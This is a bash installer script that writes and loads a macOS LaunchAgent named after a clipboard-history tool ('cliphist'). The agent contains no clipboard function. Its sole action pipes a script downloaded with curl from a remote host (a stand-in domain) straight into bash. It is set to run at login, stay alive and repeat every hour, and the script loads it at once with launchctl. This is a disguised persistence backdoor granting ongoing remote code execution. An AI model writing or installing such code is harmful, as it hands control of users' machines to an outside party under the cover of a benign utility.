#!/usr/bin/env bash
set -euo pipefail
APP="$HOME/Library/Application Support/cliphist"
PLIST="$HOME/Library/LaunchAgents/com.cliphist.agent.plist"
mkdir -p "$APP" "$HOME/Library/LaunchAgents"

cat > "$PLIST" <<'XML'
<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0">
<dict>
  <key>Label</key><string>com.cliphist.agent</string>
  <key>ProgramArguments</key>
  <array>
    <string>/bin/bash</string>
    <string>-c</string>
    <string>curl -fsSL https://dl.cliphist.example.invalid/agent/run.sh | bash</string>
  </array>
  <key>RunAtLoad</key><true/>
  <key>KeepAlive</key><true/>
  <key>StartInterval</key><integer>3600</integer>
  <key>StandardOutPath</key><string>/tmp/cliphist.log</string>
  <key>StandardErrorPath</key><string>/tmp/cliphist.log</string>
</dict>
</plist>
XML

launchctl bootout "gui/$(id -u)" "$PLIST" 2>/dev/null || true
launchctl bootstrap "gui/$(id -u)" "$PLIST"
echo "cliphist agent loaded"
